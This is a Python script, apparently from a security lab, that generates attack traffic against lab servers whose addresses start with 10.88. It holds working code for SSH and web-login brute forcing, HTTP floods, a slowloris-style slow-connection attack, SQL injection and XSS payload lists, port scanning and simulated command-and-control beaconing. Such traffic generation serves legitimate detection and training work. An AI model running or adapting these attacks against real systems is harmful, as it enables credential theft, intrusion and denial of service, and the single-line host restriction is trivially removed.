# Attack programs of this lab that wait for many answers at once, against its own servers only:
# attackAsync.py KIND SECONDS SEED HOST PORT
import asyncio
import os
import random
import string
import sys
import time

kind, seconds, seed, host, port = sys.argv[1], float(sys.argv[2]), int(sys.argv[3]), sys.argv[4], int(sys.argv[5])
if not host.startswith("10.88."):
    sys.exit("Only the servers of the lab are attacked.")
random.seed(seed + 1000 * int(os.environ.get("LAB_SEED", 0)))
end = time.monotonic() + seconds
base = f"http://{host}:{port}"
SQLI = ["' or '1'='1", "1' union select 1,2,3-- -", "1 and (select 1 from (select sleep(1))x)", "') or 1=1#", "1' order by 7-- ", "1;select pg_sleep(1)--"]
XSS = ["<script>alert(document.domain)</script>", "'><svg/onload=confirm(1)>", "<img src=1 onerror=prompt(1)>", "<details open ontoggle=alert(1)>"]


def going():
    return time.monotonic() < end


def word(least, most):
    return "".join(random.choice(string.ascii_lowercase + string.digits) for _ in range(random.randint(least, most)))


async def pause(least, most):
    await asyncio.sleep(random.uniform(least, most))


async def several(count, one):
    async def always():
        while going():
            try:
                await asyncio.wait_for(one(), max(0.1, end - time.monotonic()))
            except Exception:
                await pause(0.02, 0.2)
    await asyncio.gather(*(always() for _ in range(count)))


async def ssh():
    import asyncssh

    async def one():
        try:
            async with asyncssh.connect(host, port, username=random.choice(["root", "admin"]), password=word(5, 11), client_keys=None, agent_path=None,
                                        known_hosts=None, config=None, preferred_auth="password"):
                pass
        except asyncssh.PermissionDenied:
            await pause(0, 0.2)
    await several(4, one)


def http(limit):
    import aiohttp
    return aiohttp.ClientSession(connector=aiohttp.TCPConnector(limit=limit, force_close=limit == 0), headers={"User-Agent": "Mozilla/5.0 (Windows NT 10.0)"})


async def ask(client, method, path, **words):
    async with client.request(method, base + path, allow_redirects=False, **words) as answer:
        await answer.read()


async def form():
    async with http(3) as client:
        await several(3, lambda: ask(client, "POST", "/account", data={"user": "admin", "password": word(5, 12)}))


async def formclosing():
    async with http(0) as client:
        await several(2, lambda: ask(client, "POST", "/login", json={"user": "admin", "password": word(5, 12)}))


async def basic():
    import aiohttp
    async with http(0) as client:
        await several(3, lambda: ask(client, "GET", "/basic/", auth=aiohttp.BasicAuth("admin", word(5, 9))))


async def flood():
    async with http(80) as client:
        await several(80, lambda: ask(client, random.choice(["GET", "POST"]), f"/{word(3, 9)}?{word(2, 6)}={word(3, 30)}"))


async def floodclosing():
    async with http(0) as client:
        await several(40, lambda: ask(client, "GET", f"/p{random.randint(0, 11)}.html?{word(4, 8)}", headers={"Cache-Control": "no-store"}))


async def sqli():
    async with http(2) as client:
        async def one():
            if random.random() < 0.5:
                await ask(client, "GET", "/item", params={"id": f"{random.randint(1, 99)}{random.choice(SQLI)}"})
            else:
                await ask(client, "POST", "/item", data={"id": f"{word(1, 5)}{random.choice(SQLI)}", "name": word(2, 30)})
            await pause(0.02, 0.5)
        await several(1, one)


async def xss():
    async with http(0) as client:
        async def one():
            await ask(client, random.choice(["GET", "POST"]), "/item", params={"q": random.choice(XSS) + word(0, 12)})
            await pause(0.02, 0.6)
        await several(2, one)


async def slow():
    """Headers, then bodies, by drops, on connections of their own."""
    async def one():
        reader, writer = await asyncio.open_connection(host, port)
        if random.random() < 0.5:
            writer.write(f"GET /{word(2, 9)} HTTP/1.1\r\nHost: {host}\r\nAccept: */*\r\n".encode())
            drop = lambda: f"X-{word(3, 6)}: {word(1, 9)}\r\n"
        else:
            writer.write(f"POST /{word(2, 9)} HTTP/1.1\r\nHost: {host}\r\nContent-Length: {random.randint(5000, 60000)}\r\n\r\n".encode())
            drop = lambda: word(1, 5)
        while going():
            await pause(1, 5)
            writer.write(drop().encode())
            await writer.drain()
    await several(100, one)


async def scan():
    ports = random.sample(range(1, 4000), 1500)

    async def one():
        try:
            _, writer = await asyncio.wait_for(asyncio.open_connection(host, ports.pop()), 0.6)
            writer.close()
        except (OSError, asyncio.TimeoutError):
            pass
    await several(25, one)


async def beacon():
    every = random.uniform(2, 4)
    while going():
        try:
            async with http(0) as client:
                await ask(client, "POST", "/api?n=1", data=os.urandom(random.randint(120, 300)))
        except Exception:
            pass
        await asyncio.sleep(every * random.uniform(0.85, 1.15))


asyncio.run(globals()[kind]())
